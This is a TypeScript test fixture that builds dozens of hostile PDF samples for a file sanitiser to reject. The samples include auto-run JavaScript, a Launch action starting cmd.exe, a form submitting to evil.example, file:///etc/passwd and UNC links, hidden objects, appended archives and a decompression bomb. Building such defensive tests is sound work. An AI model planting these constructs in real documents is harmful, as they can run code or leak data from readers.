/** PDFs of every kind that is refused, each with what it is. */
import { deflateSync } from 'node:zlib';

import { pdf, pdfOf, streamOf, zip } from '../documents';

export type Hostile = [what: string, bytes: Buffer];

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
const ARCHIVE = zip([{ name: 'run.js', content: 'alert(1)' }]);
const packed = (text: string) => deflateSync(Buffer.from(text, 'latin1'));

/** A file with one more object, the fourth. */
const withObject = (object: Buffer | string): Buffer => pdf('', undefined, [object]);

/** A stream of objects that is written in a certain way, with a script in it. */
const objects = (dictionary: string, content: Buffer | string): Buffer =>
  withObject(streamOf(dictionary, content));

/** A file whose page has this annotation. */
const annotated = (annotation: string): Buffer =>
  pdf('', undefined, [], `/Annots [<< /Type /Annot ${annotation} >>]`);

/** A file that does this when it is opened. */
const opening = (action: string): Buffer => pdf(`/OpenAction << ${action} >>`);

/** A file with a later version behind it. */
const updated = (more: string): Buffer =>
  Buffer.concat([
    pdf(),
    Buffer.from(`${more}\nxref\n0 0\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n`, 'latin1'),
  ]);

/** An image of a disk says at this place what it is. */
const diskImage = (): Buffer => {
  const bytes = withObject(streamOf('', Buffer.alloc(0x9000, ' ')));
  bytes.write('CD001', 0x8001, 'latin1');
  return bytes;
};

const tapes = (): Buffer => {
  const bytes = pdfOf([streamOf('', Buffer.alloc(999, ' ')), '<< /Type /Catalog >>', '<< /Type /Page >>']);
  bytes.write('ustar', 257, 'latin1');
  return bytes;
};

const inside = `1 0 ${SCRIPT}`;
const hidden = '9 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj';
const hex = Buffer.from(inside).toString('hex');

export const hostilePdfs: Hostile[] = [
  ['a script that runs on opening', opening('/S /JavaScript /JS (x)')],
  ['a script in a stream', pdf('/OpenAction << /S /JavaScript /JS 4 0 R >>', undefined, [streamOf('', 'x')])],
  ['a script whose name is written with escapes', opening('/S /J#61v#61Script /J#53 (x)')],
  ['a script without an action, for whoever follows it', withObject('<< /JS (x) >>')],
  ['a script in the tree of names', pdf(`/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>`)],
  ['a script when a page is turned', pdf('', undefined, [], `/AA << /O ${SCRIPT} >>`)],
  ['a script in a field of a form', pdf('', undefined, [`<< /FT /Tx /T (a) /AA << /K ${SCRIPT} >> >>`])],
  ['a script after a harmless action', opening(`/S /GoTo /D [3 0 R /Fit] /Next ${SCRIPT}`)],
  ['a script among several next actions', opening(`/S /GoTo /D [3 0 R /Fit] /Next [${SCRIPT}]`)],
  ['a script in packed objects', pdf('', inside)],
  ['packed objects without a type', objects('/N 1 /First 4 /Filter /FlateDecode', packed(inside))],
  [
    'packed objects that say they are a picture',
    objects('/Subtype /Image /N 1 /First 4 /Filter /FlateDecode', packed(inside)),
  ],
  [
    'objects that are packed twice',
    objects('/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', deflateSync(packed(inside))),
  ],
  [
    'objects packed in a way that another object names',
    pdf('', undefined, [
      streamOf('/Type /ObjStm /N 1 /First 4 /Filter 5 0 R', packed(inside)),
      '/FlateDecode',
    ]),
  ],
  [
    'objects written as hexadecimal numbers',
    objects('/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', `${hex}>`),
  ],
  [
    'packed objects with a predictor',
    objects(
      '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>',
      packed(inside),
    ),
  ],
  [
    'packed objects whose number another object says',
    pdf('', undefined, [
      streamOf('/Type /ObjStm /N 5 0 R /First 4 /Filter /FlateDecode', packed(inside)),
      '1',
    ]),
  ],
  [
    'packed objects that begin where the list does not say',
    objects('/Type /ObjStm /N 1 /First 4', '1 2 << >> << >>'),
  ],
  [
    'packed objects that cannot be unpacked',
    objects('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', 'xxxx'),
  ],
  ['a stream that is packed in an unknown way', objects('/Filter /MyDecode', 'x')],
  ['a stream that is encrypted by itself', objects('/Filter /Crypt', 'x')],
  ['a packing behind that of a picture', objects('/Filter [/DCTDecode /FlateDecode]', 'x')],
  ['a stream that lies in another file', objects('/F (other.bin) /FFilter /FlateDecode', '')],
  ['a drawing that lies in another file', objects('/Subtype /Form /Ref << /F (other.pdf) /Page 0 >>', '')],
  ['a stream that is said to be of PostScript', objects('/Type /XObject /Subtype /PS', 'showpage')],
  ['a program that is started', opening('/S /Launch /F (cmd.exe)')],
  ['a program that is started on Windows', opening('/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>')],
  [
    'a link into another file',
    annotated('/Subtype /Link /A << /S /GoToR /F (\\\\\\\\host\\\\share\\\\a.pdf) /D [0] >>'),
  ],
  ['a link into an embedded file', opening('/S /GoToE /T << /R /C /N (a) >>')],
  ['a form that sends itself', opening('/S /SubmitForm /F (https://evil.example)')],
  ['a form that fetches data', opening('/S /ImportData /F (a.fdf)')],
  ['a form of XFA', pdf('/AcroForm << /Fields [] /XFA 5 0 R >>')],
  ['a film', annotated('/Subtype /Movie /Movie << /F (a.avi) >>')],
  ['a sound', annotated('/Subtype /Sound /Sound 5 0 R')],
  ['a sound that is played on opening', opening('/S /Sound /Sound 5 0 R')],
  ['a rendition', opening('/S /Rendition /OP 0')],
  ['a screen for renditions', annotated('/Subtype /Screen')],
  ['rich media', annotated('/Subtype /RichMedia /RichMediaContent 5 0 R')],
  ['a body in three dimensions', annotated('/Subtype /3D /3DD 5 0 R')],
  ['an attached file on a page', annotated('/Subtype /FileAttachment /FS 5 0 R')],
  ['an annotation of a kind that nobody knows', annotated('/Subtype /Something')],
  ['an action of a kind that nobody knows', opening('/S /Something')],
  ['an action whose kind another object says', pdf('/OpenAction << /S 4 0 R >>', undefined, ['/Something'])],
  ['a command of the menu', opening('/S /Named /N /SaveAs')],
  ['embedded files', pdf('/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>')],
  ['an embedded file that nothing names', withObject(streamOf('/Type /EmbeddedFile', 'MZ'))],
  ['an associated file', pdf('/AF [<< /Type /Filespec /F (a) /EF << /F 5 0 R >> >>]')],
  ['a link to a file', annotated('/Subtype /Link /A << /S /URI /URI (file:///etc/passwd) >>')],
  ['a link to a share', annotated('/Subtype /Link /A << /S /URI /URI (\\\\\\\\host\\\\share) >>')],
  ['a link that is a script', annotated('/Subtype /Link /A << /S /URI /URI (java\\nscript:alert) >>')],
  [
    'a link whose address another object says',
    pdf(
      '',
      undefined,
      ['(file:///etc/passwd)'],
      '/Annots [<< /Subtype /Link /A << /S /URI /URI 4 0 R >> >>]',
    ),
  ],
  ['a base of links that is a file', pdf('/URI << /Base (file:///c:/) >>')],
  ['a script whose name goes on behind its end', withObject('<< /S /JavaScript#00x >>')],
  ['a key that goes on behind its end', withObject('<< /JS#00 (x) >>')],
  ['an archive of tapes', tapes()],
  [
    'an archive whose end is not where it says',
    withObject(streamOf('', ARCHIVE.subarray(ARCHIVE.indexOf('PK\u0001\u0002'), -22))),
  ],
  ['a dictionary that says two things', opening('/S /JavaScript /S /GoTo')],
  [
    'a script in an earlier version of an object',
    Buffer.concat([
      pdf(`/OpenAction ${SCRIPT}`),
      Buffer.from(
        '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\nxref\n0 0\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n',
      ),
    ]),
  ],
  [
    'a script in a later version of an object',
    updated(`1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >>\nendobj`),
  ],
  ['a script in an object that no table names', updated(hidden)],
  [
    'an object in the bytes of a picture',
    withObject(streamOf('/Subtype /Image', `xx\n${hidden.replace('JavaScript', 'Foo')}`)),
  ],
  ['an object in a string', pdf('/X (9 0 obj << /S /Foo >> endobj)')],
  ['an object in a comment', updated('% 9 0 obj << /S /Foo >> endobj')],
  [
    'an object in a picture whose number is cut by a comment',
    withObject(streamOf('/Subtype /Image', '9 % x\n0 % y\nobj << >> endobj')),
  ],
  ['a script in a comment', updated('% /JavaScript')],
  ['something between its objects', updated('<script>alert(1)</script>')],
  ['encryption', pdfOf(['<< /Type /Catalog >>', '<< /Type /Page >>'], '/Encrypt 9 0 R')],
  [
    'encryption in a table inside a picture',
    withObject(streamOf('/Subtype /Image', 'trailer << /Root 1 0 R /#45ncrypt 9 0 R >>')),
  ],
  ['an archive in a stream', withObject(streamOf('', ARCHIVE))],
  [
    'an archive in a stream, with bytes behind it',
    withObject(streamOf('', Buffer.concat([ARCHIVE, Buffer.alloc(99, 'x')]))),
  ],
  ['an archive behind it', Buffer.concat([pdf(), ARCHIVE])],
  ['an archive of another kind in it', withObject(streamOf('', '7z\u00bc\u00af\u0027\u001c'))],
  ['an image of a disk in it', diskImage()],
  [
    'a stream that unpacks to hundreds of megabytes',
    withObject(streamOf('/Filter /FlateDecode', deflateSync(Buffer.alloc(80_000_000)))),
  ],
  ['arrays in arrays without an end', withObject('['.repeat(100_000))],
];
